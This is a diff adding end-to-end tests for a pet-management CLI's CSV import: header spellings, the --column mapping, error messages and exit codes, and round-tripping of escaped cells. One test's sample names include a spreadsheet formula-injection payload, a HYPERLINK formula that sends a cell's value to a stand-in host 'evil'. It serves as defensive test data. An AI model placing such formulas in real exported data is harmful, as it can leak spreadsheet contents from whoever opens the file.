@@ -164,3 +164,88 @@ describe.concurrent('pets add --file: what spreadsheets save', () => {
     expect(server.requests).toHaveLength(0);
   });
 });
+
+/** The bodies the server received, as sent. */
+function bodies(requests: RecordedRequest[]): string[] {
+  return requests.filter((r) => r.method === 'POST').map((r) => r.bodyBytes.toString('utf8'));
+}
+
+describe.concurrent('pets add --file: headers as people write them, --column, and cells that stay text', () => {
+  it("Excel's `Name,Category Id,Status` and its other spellings create the animals with their fields", async (t) => {
+    const { server, configDir, petctl } = await setupE2e(t, creator());
+    const headers = ['Name,Category Id,Status', 'NAME,CATEGORY ID,STATUS', 'name,category_id,status', 'Name,CategoryId,Status'];
+    for (const [index, header] of headers.entries()) {
+      const result = await petctl(['pets', 'add', '--file', write(configDir, `h${index}.csv`, `${header}\r\nRex ${index},${index + 3},Pending\r\n`)]);
+      expect(result.code, result.stderr).toBe(0);
+      expect(result.stderr).not.toContain('ignoring columns');
+    }
+    expect(bodies(server.requests)).toEqual(headers.map((_, index) => `{"name":"Rex ${index}","categoryId":${index + 3},"status":"pending"}`));
+  });
+
+  it('--column maps any header to a field, repeated; the headers it replaces are ignored and named', async (t) => {
+    const { server, configDir, petctl } = await setupE2e(t, creator());
+    const file = write(configDir, 'export.csv', 'Owner Name,Animal,Category,State\r\nMs Smith,Rex,7,Sold\r\nMr Jones,Mia,8,\r\n');
+    const result = await petctl(['pets', 'add', '--file', file, '--column', 'name=Animal', '--column', 'categoryId=Category', '--column', 'status=state']);
+    expect(result.code, result.stderr).toBe(0);
+    expect(bodies(server.requests).sort()).toEqual(['{"name":"Mia","categoryId":8}', '{"name":"Rex","categoryId":7,"status":"sold"}']);
+    expect(result.stderr).toContain('ignoring columns: Owner Name\n');
+  });
+
+  it('a header --column names that the file lacks: exit 6, the header and the file\'s headers named, nothing sent; bad --column values exit 2', async (t) => {
+    const { server, configDir, petctl } = await setupE2e(t, creator());
+    const file = write(configDir, 'cat.csv', 'Name,Cat,Status\nRex,1,sold\n');
+    const missing = await petctl(['pets', 'add', '--file', file, '--column', 'categoryId=Category']);
+    expect(missing.code).toBe(6);
+    expectCleanError(missing);
+    expect(missing.stderr).toBe('error: line 1: the CSV header has no column "Category" (--column categoryId=Category); its columns: Name,Cat,Status (invalid_input)\n');
+    const cases: Array<[string[], string]> = [
+      [['--file', file, '--column', 'Category'], 'error: --column must be <field>=<header>, such as categoryId="Category Id", not "Category" (usage_error)'],
+      [['--file', file, '--column', 'breed=Cat'], 'error: --column must be <field>=<header>, the field one of name, categoryId, status, not "breed=Cat" (usage_error)'],
+      [['--file', file, '--column', 'categoryId=Cat', '--column', 'category_id=Name'], 'error: --column must give each field once (categoryId twice), not "category_id=Name" (usage_error)'],
+      [['--name', 'Rex', '--category-id', '1', '--column', 'name=Name'], 'error: --column needs --file (usage_error)'],
+      [['--file', file, '--format', 'ndjson', '--column', 'name=Name'], 'error: --column applies to CSV headers, not ndjson input (usage_error)'],
+      [['--file', file, '--column', 'categoryId=Cat', '--id-column', 'cat'], 'error: --id-column cat names a field that is sent (categoryId) (usage_error)'],
+    ];
+    for (const [args, message] of cases) {
+      const result = await petctl(['pets', 'add', ...args]);
+      expect(result.code, args.join(' ')).toBe(2);
+      expectCleanError(result);
+      expect(result.stderr.split('\n')[0]).toBe(message);
+    }
+    // The loose field names of --column: `category_id=Cat` is categoryId.
+    const mapped = await petctl(['pets', 'add', '--file', file, '--column', 'category_id=Cat']);
+    expect(mapped.code, mapped.stderr).toBe(0);
+    expect(bodies(server.requests)).toEqual(['{"name":"Rex","categoryId":1,"status":"sold"}']);
+  });
+
+  it('a header that lacks a field says which headers it would accept and names --column; exit 6, nothing sent', async (t) => {
+    const { server, configDir, petctl } = await setupE2e(t, creator());
+    const result = await petctl(['pets', 'add', '--file', write(configDir, 'c.csv', 'Name,Category,Status\nRex,1,sold\n')]);
+    expect(result.code).toBe(6);
+    expectCleanError(result);
+    expect(result.stderr).toBe(
+      'error: line 1: the CSV header lacks categoryId; expected name,categoryId,status; accepted for categoryId: categoryId, category_id, category-id, Category Id, CATEGORY ID (case, spaces, _ and - do not matter), or any other header with --column categoryId="<header>"; its columns: Name,Category,Status (invalid_input)\n',
+    );
+    expect(server.requests).toHaveLength(0);
+  });
+
+  it("cells stay text: the ' that -o csv writes before =, +, -, @, a tab or a CR is dropped, so the names arrive exact; 'Tis stays", async (t) => {
+    const names = ['=HYPERLINK("http://evil/?x="&A1,"click")', '-2+3', '+1', '@SUM(1+1)', "'Tis", "''=x"];
+    const { server, configDir, petctl } = await setupE2e(t, creator({ list: { existing: [] } }));
+    // As -o csv writes them: RFC 4180 quoting, and a ' before a formula's first character.
+    const written = names.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)).map((cell) => `"${cell.replaceAll('"', '""')}",1,`);
+    const file = write(configDir, 'round.csv', ['name,categoryId,status', ...written, ''].join('\r\n'));
+    const imported = await petctl(['pets', 'add', '--file', file]);
+    expect(imported.code, imported.stderr).toBe(0);
+    // Up to 4 requests in flight: in any order.
+    expect(bodies(server.requests).map((body) => (JSON.parse(body) as { name: string }).name).sort()).toEqual([...names].sort());
+
+    // Through petctl and back: the list as -o csv, imported into a second service, arrives as it left.
+    const listed = await petctl(['pets', 'list', '--all', '-o', 'csv']);
+    expect(listed.code, listed.stderr).toBe(0);
+    const other = await setupE2e(t, creator());
+    const again = await other.petctl(['pets', 'add', '--file', write(configDir, 'listed.csv', listed.stdout)]);
+    expect(again.code, again.stderr).toBe(0);
+    expect(bodies(other.server.requests).map((body) => (JSON.parse(body) as { name: string }).name).sort()).toEqual([...names].sort());
+  });
+});
